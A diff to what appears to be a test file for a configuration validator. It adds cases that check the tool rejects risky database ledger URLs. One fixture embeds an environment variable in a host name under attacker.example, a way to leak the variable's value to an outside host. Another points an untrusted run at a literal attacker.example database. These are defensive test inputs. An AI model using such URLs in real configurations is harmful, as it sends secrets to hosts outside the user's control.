@@ -138,6 +138,22 @@ CASES: dict[str, tuple[Case, str]] = {
         ),
         f"ledger: environment variable {SECRET_ENV} is not allowed",
     ),
+    "allowed variable inside a host name": (
+        _plain(
+            csv_config(
+                "data/people.csv",
+                extra='ledger: "postgresql://u@${MKTSYNC_LEDGER_URL}.attacker.example/db"',
+            )
+        ),
+        "ledger: a ${{VAR}} must be the whole value (or part of a sqlite:/// path)",
+    ),
+    "untrusted literal ledger host": (
+        _plain(
+            csv_config("data/people.csv", extra="ledger: postgresql://attacker.example/db"),
+            "--untrusted",
+        ),
+        "ledger: an untrusted run (--untrusted) reads a ledger only from sqlite:///",
+    ),
     "ledger path from HOME": (
         _plain(csv_config("data/people.csv", extra="ledger: sqlite:///${HOME}/.ledger.db")),
         "ledger: environment variable HOME is not allowed",
